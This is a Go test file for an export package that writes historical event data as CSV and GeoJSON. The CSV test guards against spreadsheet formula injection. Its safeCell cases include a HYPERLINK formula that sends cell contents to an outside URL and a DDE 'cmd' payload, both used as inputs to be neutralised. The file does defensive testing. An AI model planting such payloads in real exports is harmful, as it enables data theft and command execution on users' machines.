package export

import (
	"encoding/csv"
	"encoding/json"
	"strconv"
	"strings"
	"testing"
	"time"

	"atlas.example/southsouth/data/chronicle"
)

// TestEventTable reads the table back as a spreadsheet does.
func TestEventTable(t *testing.T) {
	for name, c := range map[string]*chronicle.Chronicle{"tables": tables(t), "sample": sample(t)} {
		export, _ := exported(t, c, "csv")
		rows, err := csv.NewReader(strings.NewReader(export)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if len(rows) != 1+len(c.Events) {
			t.Errorf("%s: %d rows, want a header and %d events", name, len(rows), len(c.Events))
		}
		for _, row := range rows[1:] {
			for i, cell := range row {
				_, number := strconv.ParseFloat(cell, 64)
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && number != nil {
					t.Errorf("%s: %s of %s is a formula: %q", name, rows[0][i], row[0], cell)
				}
			}
		}
	}
}

func TestSafeCell(t *testing.T) {
	for _, c := range []struct{ reason, cell, want string }{
		{"a text", "Lusaka", "Lusaka"},
		{"nothing", "", ""},
		{"a formula", `=HYPERLINK("http://a.org?"&A1)`, `'=HYPERLINK("http://a.org?"&A1)`},
		{"a sum", "+1", "'+1"},
		{"a difference", "-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"},
		{"a function of old", "@SUM(A1)", "'@SUM(A1)"},
		{"a formula behind a tab", "\t=1", "'\t=1"},
		{"a sign within", "a=b", "a=b"},
	} {
		if got := safeCell(c.cell); got != c.want {
			t.Errorf("safeCell(%q) = %q, want %q (%s)", c.cell, got, c.want, c.reason)
		}
	}
}

func TestNumberLine(t *testing.T) {
	over := chronicle.Number{Basis: chronicle.Claimed, Operator: chronicle.Over, Value: 100}
	for _, c := range []struct{ reason, subject, unit, by, want string }{
		{"all of it", "those who took part", "countries", "the article", "claimed, those who took part: over 100 countries (the article)"},
		{"the unit once", "countries that took part", "countries", "the article", "claimed, countries that took part: over 100 (the article)"},
		{"the number alone", "", "", "", "claimed: over 100"},
	} {
		n := over
		n.Subject, n.Unit, n.By = c.subject, c.unit, c.by
		if got := numberLine(&n); got != c.want {
			t.Errorf("numberLine(%q, %q, %q) = %q, want %q (%s)", c.subject, c.unit, c.by, got, c.want, c.reason)
		}
	}
}

// TestEventPoints holds what RFC 7946 asks of features, and what programs ask that animate them.
func TestEventPoints(t *testing.T) {
	for name, c := range map[string]*chronicle.Chronicle{"tables": tables(t), "sample": sample(t)} {
		export, _ := exported(t, c, "geojson")
		var collection struct {
			Type     string
			Features []struct {
				Type, ID   string
				Properties eventProperties
				Geometry   *struct {
					Type        string
					Coordinates []float64
				}
			}
		}
		if err := json.Unmarshal([]byte(export), &collection); err != nil {
			t.Fatal(err)
		}
		if collection.Type != "FeatureCollection" || len(collection.Features) != len(c.Events) {
			t.Errorf("%s: a %s of %d, want a FeatureCollection of %d", name, collection.Type, len(collection.Features), len(c.Events))
		}
		for i, f := range collection.Features {
			e := &c.Events[i]
			place, located := c.Place(e.PlaceID)
			if f.Type != "Feature" || f.ID != e.ID || (f.Geometry != nil) != located {
				t.Errorf("%s: a %s %q with geometry %v, want the Feature %q", name, f.Type, f.ID, f.Geometry, e.ID)
			}
			if located && (f.Geometry.Type != "Point" || len(f.Geometry.Coordinates) != 2 || f.Geometry.Coordinates[0] != place.At.Lon) {
				t.Errorf("%s: %s is at %v, want longitude first, %v", name, e.ID, f.Geometry, place.At)
			}
			start, err1 := time.Parse(time.RFC3339, f.Properties.Start)
			end, err2 := time.Parse(time.RFC3339, f.Properties.End)
			if err1 != nil || err2 != nil || !start.Before(end) {
				t.Errorf("%s: %s goes from %s to %s, want two moments", name, e.ID, f.Properties.Start, f.Properties.End)
			}
			if f.Properties.StartEDTF != e.Start.String() || f.Properties.EndEDTF != e.End.String() {
				t.Errorf("%s: %s in EDTF is %s, %s, want %v, %v", name, e.ID, f.Properties.StartEDTF, f.Properties.EndEDTF, e.Start, e.End)
			}
		}
	}
}
